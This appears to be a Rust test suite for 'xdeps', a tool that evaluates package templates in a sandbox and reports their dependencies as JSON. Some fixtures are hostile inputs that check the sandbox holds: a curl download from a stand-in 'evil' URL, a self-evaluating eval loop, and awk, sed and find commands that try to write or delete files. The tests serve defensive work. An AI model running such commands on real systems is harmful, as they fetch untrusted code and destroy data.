use assert_cmd::Command;
use predicates::prelude::*;
use xdeps_cli::test_utils::TemplateTree;

/// `xdeps` with a clean environment: no colors, no log output.
fn xdeps(tree: &TemplateTree) -> Command {
    let mut cmd = Command::cargo_bin("xdeps").unwrap();
    cmd.current_dir(tree.root())
        .env("NO_COLOR", "1")
        .env_remove("RUST_LOG")
        .env_remove("XDEPS_JOBS")
        .arg("-q");
    cmd
}

#[test]
fn test_outputs_one_line_per_template_in_order() {
    let tree = TemplateTree::new().unwrap();
    tree.add("foo", "pkgname=foo\ndepends=\"libc libssl\"\nmakedepends=\"\"\n").unwrap();
    tree.add("bar", "pkgname=bar\nhostmakedepends=\"pkg-config\"\n").unwrap();

    xdeps(&tree)
        .args(["srcpkgs/foo/template", "srcpkgs/bar/template"])
        .assert()
        .success()
        .stdout(
            "{\"file\":\"srcpkgs/foo/template\",\"depends\":[\"libc\",\"libssl\"],\"makedepends\":[]}\n\
             {\"file\":\"srcpkgs/bar/template\",\"hostmakedepends\":[\"pkg-config\"]}\n",
        );
}

#[test]
fn test_options_condition_dependencies() {
    let tree = TemplateTree::new().unwrap();
    tree.add(
        "foo",
        "pkgname=foo\n\
         build_options=\"gtk3 x11\"\n\
         makedepends=\"$(vopt_if gtk3 gtk+3-devel gtk+-devel) $(vopt_if x11 libX11-devel)\"\n",
    )
    .unwrap();

    xdeps(&tree)
        .args(["-o", "gtk3,x11", "-o", "~x11", "srcpkgs/foo/template"])
        .assert()
        .success()
        .stdout("{\"file\":\"srcpkgs/foo/template\",\"makedepends\":[\"gtk+3-devel\"]}\n");
}

#[test]
fn test_reads_template_from_stdin() {
    let tree = TemplateTree::new().unwrap();
    xdeps(&tree)
        .arg("-")
        .write_stdin("pkgname=piped\ndepends=\"a b\"\n")
        .assert()
        .success()
        .stdout("{\"file\":\"-\",\"depends\":[\"a\",\"b\"]}\n");
}

#[test]
fn test_paths_are_normalized() {
    let tree = TemplateTree::new().unwrap();
    tree.add("foo", "depends=x\n").unwrap();
    xdeps(&tree)
        .arg("./srcpkgs/bar/../foo//template")
        .assert()
        .success()
        .stdout("{\"file\":\"srcpkgs/foo/template\",\"depends\":[\"x\"]}\n");
}

#[test]
fn test_no_inputs_is_success() {
    let tree = TemplateTree::new().unwrap();
    xdeps(&tree).assert().success().stdout("").stderr("");
}

#[test]
fn test_unrecognized_command_fails_with_single_line() {
    let tree = TemplateTree::new().unwrap();
    tree.add("ok", "depends=libc\n").unwrap();
    tree.add("bad", "pkgname=bad\ncurl -O https://example.com/evil\ndepends=libc\n")
        .unwrap();

    let assert = xdeps(&tree)
        .args(["srcpkgs/ok/template", "srcpkgs/bad/template"])
        .assert()
        .failure()
        .code(1)
        .stdout("");
    let stderr = String::from_utf8_lossy(&assert.get_output().stderr).into_owned();
    assert_eq!(
        stderr,
        "ERR srcpkgs/bad/template: line 2: unrecognized function or permitted exec: \"curl\"\n"
    );
}

#[test]
fn test_one_failure_among_many_reports_that_input() {
    let tree = TemplateTree::new().unwrap();
    let mut args = Vec::new();
    for i in 0..30 {
        let name = format!("p{i}");
        let source = if i == 17 {
            "pkgname=p17\nvopt_bool onlyone\n".to_string()
        } else {
            format!("pkgname={name}\ndepends=\"dep{i}\"\n")
        };
        tree.add(&name, &source).unwrap();
        args.push(format!("srcpkgs/{name}/template"));
    }

    let assert = xdeps(&tree).args(&args).assert().failure();
    let stderr = String::from_utf8_lossy(&assert.get_output().stderr).into_owned();
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(stderr.starts_with("ERR srcpkgs/p17/template: "), "{stderr}");
    assert!(stderr.contains("vopt_bool: expected 2 arguments, got 1"), "{stderr}");
}

#[test]
fn test_option_conflict() {
    let tree = TemplateTree::new().unwrap();
    tree.add("foo", "pkgname=foo\nvopt_conflict gtk2 gtk3\ndepends=x\n").unwrap();

    xdeps(&tree).args(["-o", "gtk3", "srcpkgs/foo/template"]).assert().success();
    xdeps(&tree)
        .args(["-o", "gtk2,gtk3", "srcpkgs/foo/template"])
        .assert()
        .failure()
        .stderr(predicate::str::contains("foo: cannot set options gtk2 and gtk3 simultaneously"));
}

#[test]
fn test_incomplete_template_fails() {
    let tree = TemplateTree::new().unwrap();
    tree.add("foo", "pkgname=foo\ndepends=\"libc\n").unwrap();
    xdeps(&tree)
        .arg("srcpkgs/foo/template")
        .assert()
        .failure()
        .stderr(predicate::str::starts_with("ERR srcpkgs/foo/template: incomplete template"));
}

#[test]
fn test_missing_file_fails() {
    let tree = TemplateTree::new().unwrap();
    xdeps(&tree)
        .arg("srcpkgs/nothing/template")
        .assert()
        .failure()
        .stderr(predicate::str::starts_with("ERR srcpkgs/nothing/template: failed to read template: "))
        .stderr(predicate::str::contains("srcpkgs/nothing/template").count(1));
}

#[test]
fn test_self_evaluating_template_reports_error() {
    let tree = TemplateTree::new().unwrap();
    tree.add("loop", "pkgname=loop\ns='eval \"$s\"'\neval \"$s\"\ndepends=x\n").unwrap();
    let assert = xdeps(&tree).arg("srcpkgs/loop/template").assert().failure().code(1).stdout("");
    let stderr = String::from_utf8_lossy(&assert.get_output().stderr).into_owned();
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(stderr.starts_with("ERR srcpkgs/loop/template: "), "{stderr}");
    assert!(stderr.contains("maximum nesting level exceeded (256)"), "{stderr}");
}

#[test]
fn test_template_diagnostics_are_prefixed() {
    let tree = TemplateTree::new().unwrap();
    tree.add("foo", "pkgname=foo\necho \"warning: old style\" >&2\ndepends=x\n").unwrap();
    xdeps(&tree)
        .arg("srcpkgs/foo/template")
        .assert()
        .success()
        .stdout("{\"file\":\"srcpkgs/foo/template\",\"depends\":[\"x\"]}\n")
        .stderr("foo: warning: old style\n");
}

#[test]
fn test_top_level_output_does_not_corrupt_results() {
    let tree = TemplateTree::new().unwrap();
    tree.add("foo", "pkgname=foo\necho noise\nprintf '%s\\n' more noise\ndepends=x\n").unwrap();
    xdeps(&tree)
        .arg("srcpkgs/foo/template")
        .assert()
        .success()
        .stdout("{\"file\":\"srcpkgs/foo/template\",\"depends\":[\"x\"]}\n");
}

#[test]
fn test_zero_jobs_rejected() {
    let tree = TemplateTree::new().unwrap();
    tree.add("foo", "depends=x\n").unwrap();
    xdeps(&tree)
        .args(["--jobs", "0", "srcpkgs/foo/template"])
        .assert()
        .failure()
        .stderr(predicate::str::contains("at least 1"));

    xdeps(&tree)
        .env("XDEPS_JOBS", "1")
        .arg("srcpkgs/foo/template")
        .assert()
        .success();
}

#[test]
fn test_output_is_deterministic() {
    let tree = TemplateTree::new().unwrap();
    let mut args = Vec::new();
    for i in 0..20 {
        tree.add(
            &format!("p{i}"),
            &format!("pkgname=p{i}\ndepends=\"$(vopt_if ssl libssl) libc{i}\"\ncheckdepends=\"t{i}\"\n"),
        )
        .unwrap();
        args.push(format!("srcpkgs/p{i}/template"));
    }

    let first = xdeps(&tree).args(["-o", "ssl"]).args(&args).assert().success();
    let second = xdeps(&tree).args(["-o", "ssl"]).args(&args).assert().success();
    assert_eq!(first.get_output().stdout, second.get_output().stdout);
    assert_eq!(String::from_utf8_lossy(&first.get_output().stdout).lines().count(), 20);
}

#[cfg(target_os = "linux")]
#[test]
fn test_permitted_programs_cannot_touch_host() {
    let tree = TemplateTree::new().unwrap();
    tree.add(
        "awk",
        "pkgname=awk\nx=$(awk 'BEGIN { system(\"touch escaped-awk\") }')\ndepends=x\n",
    )
    .unwrap();
    tree.add("sed", "pkgname=sed\nx=$(echo hi | sed 'w escaped-sed')\ndepends=x\n").unwrap();
    tree.add("find", "pkgname=find\nx=$(find . -name template -delete)\ndepends=x\n").unwrap();

    for name in ["awk", "sed", "find"] {
        let assert = xdeps(&tree)
            .arg(format!("srcpkgs/{name}/template"))
            .assert()
            .failure()
            .stdout("");
        let stderr = String::from_utf8_lossy(&assert.get_output().stderr).into_owned();
        assert!(stderr.contains(&format!("ERR srcpkgs/{name}/template: ")), "{stderr}");
        assert!(stderr.contains(&format!("{name}: {name} failed")), "{stderr}");
    }
    assert!(!tree.root().join("escaped-awk").exists());
    assert!(!tree.root().join("escaped-sed").exists());
    assert!(tree.root().join("srcpkgs/find/template").exists());
}
